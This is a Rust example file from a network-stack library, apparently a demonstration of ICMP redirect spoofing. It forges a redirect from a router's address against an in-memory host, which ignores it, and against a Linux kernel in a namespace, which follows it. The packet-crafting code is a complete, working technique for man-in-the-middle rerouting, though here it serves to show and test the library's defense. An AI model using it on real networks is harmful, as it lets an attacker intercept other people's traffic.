//! An ICMP redirect: a router says "for this address, go through another one". Who believes it?
//!
//! ```text
//! cargo run --example icmp_redirect           # a victim of ours, in memory: it counts the message, and goes on as before
//! cargo run --example icmp_redirect kernel    # Linux in a namespace: it follows
//! ```
//!
//! Anybody on the wire can write the router's address into such a message, and have the victim's packets sent to himself. The
//! only proof that is asked for: it quotes a packet that the victim has sent, to that address, through that router (RFC 1122
//! 3.2.2.2). So we make the victim send one: it answers an echo request.
#![allow(clippy::print_stdout)] // a program for the terminal

use std::time::Duration;

use sockatoo::base::Reason;
use sockatoo::device::{Cable, CableConfig};
use sockatoo::socket::*;
use sockatoo::wire::packet::{icmp, ipv4};
use sockatoo::{Host, Result, World};

mod lan;

/// The router's address, the one where the victim shall go, and somebody far away. The first two are both ours.
const ROUTER: &str = "192.0.2.2";
const BETTER: &str = "192.0.2.3";
const FAR: &str = "198.51.100.7";

fn main() -> Result<()> {
    match std::env::args().nth(1).as_deref() {
        Some("kernel") => println!("the kernel's way: {}", beside_the_kernel()?),
        _ => println!("alice has ignored {} redirect", in_memory()?),
    }
    Ok(())
}

/// How many redirects alice has ignored.
pub(crate) fn in_memory() -> Result<u64> {
    let world = World::new(1);
    let (left, right) = Cable::pair(CableConfig::default());
    let alice =
        world.host("alice").device(left).ipv4_only().address("192.0.2.1/24")?.gateway(ROUTER)?.build()?;
    let mallory = world.host("mallory").device(right).ipv4_only();
    let mallory = mallory.address("192.0.2.2/24")?.address("192.0.2.3/24")?.build()?;
    redirect(&mallory, "192.0.2.1")?;
    world.run_for(Duration::from_secs(1))?;
    Ok(alice.count(Reason::IcmpRedirectIgnored))
}

/// Linux's way to somebody far away, afterwards.
pub(crate) fn beside_the_kernel() -> Result<String> {
    let (kernel, host) = lan::beside_the_kernel(Host::builder())?;
    host.add_address(sockatoo::IfIndex(2), "192.0.2.3/24")?;
    kernel.add_route("default", ROUTER.parse().expect("an address"))?;
    for interface in ["all", "tap0"] {
        kernel.set(&format!("net/ipv4/conf/{interface}/accept_redirects"), "1")?;
    }
    redirect(&host, "192.0.2.1")?;
    // The kernel has read the redirect when it has answered what came after it.
    exchange(&host, "192.0.2.1", ROUTER)?;
    let route = kernel.command("ip").args(["route", "get", FAR]).output()?;
    Ok(String::from_utf8_lossy(&route.stdout).split_whitespace().collect::<Vec<_>>().join(" "))
}

fn redirect(host: &Host, victim: &str) -> Result<()> {
    // The victim must know the station of its new way.
    exchange(host, victim, BETTER)?;
    // Somebody far away asks, the victim answers, through its router: us.
    let answer = exchange(host, victim, FAR)?;
    // RFC 792: type 5, code 1 = for this host; the better way; and the IP header with 8 bytes of what it is about.
    let message = icmp().set("type", "redirect").code(1).set("gateway", BETTER);
    let packet = ipv4().src(ROUTER).dst(victim) / message / &answer[..28];
    host.socket(AF_INET, SOCK_RAW, IPPROTO_RAW)?.sendto(&packet.build(host)?.bytes, 0, (victim, 0))?;
    Ok(())
}

/// Has the victim answer an echo request from `source`, whoever that is. The answer, as it passed the wire.
fn exchange(host: &Host, victim: &str, source: &str) -> Result<Vec<u8>> {
    let wire = host.socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP))?;
    wire.settimeout(Some(Duration::from_secs(5)))?;
    wire.attach_filter(format!("icmp[0] = 0 and src host {victim} and dst host {source}").as_str())?;
    let request =
        ipv4().src(source).dst(victim) / icmp().set("type", "echo-request").id(7) / "anybody there?";
    host.socket(AF_INET, SOCK_RAW, IPPROTO_RAW)?.sendto(&request.build(host)?.bytes, 0, (victim, 0))?;
    wire.recv(65_535, 0)
}
